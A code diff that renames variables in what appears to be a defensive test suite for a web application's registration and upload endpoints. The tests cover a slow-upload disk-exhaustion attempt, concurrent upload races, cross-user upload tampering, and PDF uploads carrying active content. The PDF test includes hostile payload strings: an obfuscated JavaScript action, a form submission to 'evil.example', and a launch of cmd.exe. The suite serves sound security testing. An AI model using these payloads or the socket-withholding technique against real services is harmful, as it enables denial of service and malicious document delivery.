@@ -21,7 +21,7 @@ const withhold = async (
 ) => {
   const form = await registrationBytes(newEmail(), await pictureBytes(), formBytes)
   const beginning = form.subarray(0, formBytes - 20)
-  const sent = Array.from({ length: sockets }, (_, n) =>
+  const uploads = Array.from({ length: sockets }, (_, n) =>
     announce(product.port, place(n), formBytes, beginning),
   )
   let most = 0
@@ -32,9 +32,9 @@ const withhold = async (
       await new Promise(resolve => setTimeout(resolve, 200))
     }
     await doing
-    return { most, refused: sent.filter(each => each.status() !== undefined).length }
+    return { most, refused: uploads.filter(each => each.status() !== undefined).length }
   } finally {
-    for (const each of sent) each.socket.destroy()
+    for (const each of uploads) each.socket.destroy()
   }
 }
 
@@ -45,11 +45,11 @@ const fillTheDisk: Attack = {
   tried:
     'Sixty sockets each send 19 MB of a registration and withhold the last bytes: from one address, then from sixty',
   run: async ground => {
-    const one = newPlace()
+    const place = newPlace()
     let [neighbour, latecomer] = [0, 0]
     const here = await withhold(
       ground,
-      () => one,
+      () => place,
       async () => {
         const form = registration(newEmail())
         neighbour = (await ground.town.ask({ url: '/api/User/register', form, ip: newPlace() })).status
@@ -71,7 +71,7 @@ const fillTheDisk: Attack = {
         everywhere.most <= formBounds.openAll.bytes &&
         neighbour === 200 &&
         latecomer === 200,
-      seen: `one address held ${megabytes(here.most)} of the disk at most (${here.refused} refused, and somebody else registered meanwhile: ${neighbour}); sixty held ${megabytes(everywhere.most)} (${everywhere.refused} refused, and somebody else registered meanwhile: ${latecomer})`,
+      observation: `one address held ${megabytes(here.most)} of the disk at most (${here.refused} refused, and somebody else registered meanwhile: ${neighbour}); sixty held ${megabytes(everywhere.most)} (${everywhere.refused} refused, and somebody else registered meanwhile: ${latecomer})`,
     }
   },
 }
@@ -103,7 +103,7 @@ const tenAtOnce: Attack = {
     const picture = await pictureBytes()
     const url = await begin(town, token, picture.length)
     await patch(town, url, token, 0, picture)
-    const told = await Promise.all(
+    const answers = await Promise.all(
       Array.from({ length: 10 }, () =>
         town.ask<{ picture: { hash: string } }>({
           url: '/api/Upload/finish-picture',
@@ -112,10 +112,10 @@ const tenAtOnce: Attack = {
         }),
       ),
     )
-    const hashes = new Set(told.map(each => each.data?.picture.hash))
+    const hashes = new Set(answers.map(each => each.data?.picture.hash))
     return {
-      held: told.every(each => each.status === 200) && hashes.size === 1,
-      seen: `${told.map(each => each.status).join(', ')}; ${hashes.size} picture`,
+      held: answers.every(each => each.status === 200) && hashes.size === 1,
+      observation: `${answers.map(each => each.status).join(', ')}; ${hashes.size} picture`,
     }
   },
 }
@@ -125,17 +125,17 @@ const strangers: Attack = {
   tried: 'HEAD, PATCH and DELETE of one’s own upload with ?x=/ and the id of a stranger’s',
   run: async ({ town }) => {
     const [owner, thief] = [await newcomer(town), await newcomer(town)]
-    const theirs = await begin(town, owner.token, 1_000)
-    await patch(town, theirs, owner.token, 0, new Uint8Array(100))
-    const mine = `${await begin(town, thief.token, 1_000)}?x=/${idOf(theirs)}`
-    const asked = await tus(town, 'HEAD', mine, thief.token)
+    const ownerUpload = await begin(town, owner.token, 1_000)
+    await patch(town, ownerUpload, owner.token, 0, new Uint8Array(100))
+    const mine = `${await begin(town, thief.token, 1_000)}?x=/${idOf(ownerUpload)}`
+    const response = await tus(town, 'HEAD', mine, thief.token)
     const appended = await patch(town, mine, thief.token, 100, new Uint8Array(10))
     const deleted = await tus(town, 'DELETE', mine, thief.token)
-    const after = await tus(town, 'HEAD', theirs, owner.token)
-    const [read, left] = [asked, after].map(each => each.headers.get('upload-offset'))
+    const after = await tus(town, 'HEAD', ownerUpload, owner.token)
+    const [read, left] = [response, after].map(each => each.headers.get('upload-offset'))
     return {
       held: read === '0' && !appended.ok && left === '100',
-      seen: `read: the offset of his own (${read}); append where the owner stands: ${appended.status}; delete: ${deleted.status}, his own; the owner’s is at ${left} as before`,
+      observation: `read: the offset of his own (${read}); append where the owner stands: ${appended.status}; delete: ${deleted.status}, his own; the owner’s is at ${left} as before`,
     }
   },
 }
@@ -166,14 +166,14 @@ const activePapers: Attack = {
   tried: 'A PDF with a script, one with an action and one that starts a program are handed in',
   run: async ({ town }) => {
     const { token } = await newcomer(town)
-    const told = []
+    const answers = []
     for (const words of [
       '/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>',
       '/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>',
       '/OpenAction<</S/Launch/F(cmd.exe)>>',
     ])
-      told.push(await handIn(town, token, words))
-    return { held: told.every(each => each.code === '31'), seen: told.map(shortly).join(', ') }
+      answers.push(await handIn(town, token, words))
+    return { held: answers.every(each => each.code === '31'), observation: answers.map(shortly).join(', ') }
   },
 }
 
@@ -193,11 +193,11 @@ const openDocuments: Attack = {
   run: async ({ town, dataDir }) => {
     const { token } = await newcomer(town)
     const words = `secret-${randomBytes(8).toString('hex')}`
-    const told = await handIn(town, token, `/Title(${words})`)
-    const found = await isWrittenIn(join(dataDir, 'files'), words)
+    const answer = await handIn(town, token, `/Title(${words})`)
+    const isWritten = await isWrittenIn(join(dataDir, 'files'), words)
     return {
-      held: told.status === 200 && !found,
-      seen: `handed in: ${shortly(told)}; its words are ${found ? 'readable' : 'in no file'}`,
+      held: answer.status === 200 && !isWritten,
+      observation: `handed in: ${shortly(answer)}; its words are ${isWritten ? 'readable' : 'in no file'}`,
     }
   },
 }
